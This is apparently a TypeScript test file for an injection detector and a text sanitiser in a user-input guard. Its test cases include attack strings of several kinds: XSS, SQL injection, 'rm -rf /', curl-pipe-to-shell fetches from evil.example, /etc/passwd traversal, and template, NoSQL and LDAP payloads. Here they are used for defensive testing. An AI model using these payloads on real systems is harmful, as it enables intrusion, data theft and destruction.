import { describe, expect, it } from 'vitest'
import { findInjections } from './guard.patterns.ts'
import { sanitizeUserText } from './guard.sanitize.ts'

const families = (text: string) => findInjections(text).map((match) => match.family)

describe('injection patterns', () => {
  it.each([
    ["<script>alert('xss')</script>", 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['<a href="javascript:alert(1)">click</a>', 'xss'],
    ['<iframe src="https://evil.example"></iframe>', 'xss'],
    ["admin' OR '1'='1", 'sql'],
    ["1'; DROP TABLE users; --", 'sql'],
    ["x' UNION SELECT username, password FROM users --", 'sql'],
    ['file.txt; rm -rf /', 'shell'],
    ['$(curl http://evil.example/x.sh)', 'shell'],
    ['curl http://evil.example/x | sh', 'shell'],
    ['../../../etc/passwd', 'path_traversal'],
    ['..%2f..%2f..%2fetc%2fpasswd', 'path_traversal'],
    ['%252e%252e%252fetc%252fpasswd', 'path_traversal'],
    ['{{7*7}}', 'template'],
    ["{{ ''.__class__.__mro__ }}", 'template'],
    ['${7*7}', 'template'],
    ['<%= system("id") %>', 'template'],
    ['{"username": {"$ne": null}, "password": {"$ne": null}}', 'nosql'],
    ['{"$where": "this.password.length > 0"}', 'nosql'],
    ['*)(uid=*))(|(uid=*', 'ldap'],
    ['admin)(|(password=*)', 'ldap'],
  ])('flags %j as %s', (text, family) => {
    expect(families(text)).toContain(family)
  })

  it.each([
    'Hello! Can you help me plan a trip to Lisbon in May?',
    "What's the difference between UNION and UNION ALL in SQL?",
    'How do I write a SELECT query that joins two tables?',
    'In React, how do I render a list of <li> items from an array?',
    'Explain what the onClick prop does on a button component.',
    'How do I remove a directory recursively in bash safely?',
    'What does ../ mean in a relative file path?',
    'In Jinja, how do I print a variable with {{ name }}?',
    'How do I query MongoDB for documents where age is greater than 30?',
    "It's 5 o'clock and I'd like a recipe -- something quick.",
    'Use `ls -la` to list files.',
  ])('does not flag %j', (text) => {
    expect(findInjections(text)).toEqual([])
  })
})

describe('sanitizeUserText', () => {
  it('removes control and invisible characters and keeps the rest verbatim', () => {
    expect(sanitizeUserText('a\u0000b\u0007c\u200Bd\u202Ee\tf\ng')).toBe('abcde\tf\ng')
    expect(sanitizeUserText("<b>bold</b> & 'quotes'")).toBe("<b>bold</b> & 'quotes'")
  })

  it('normalises to NFC', () => {
    expect(sanitizeUserText('e\u0301')).toBe('\u00e9')
  })
})
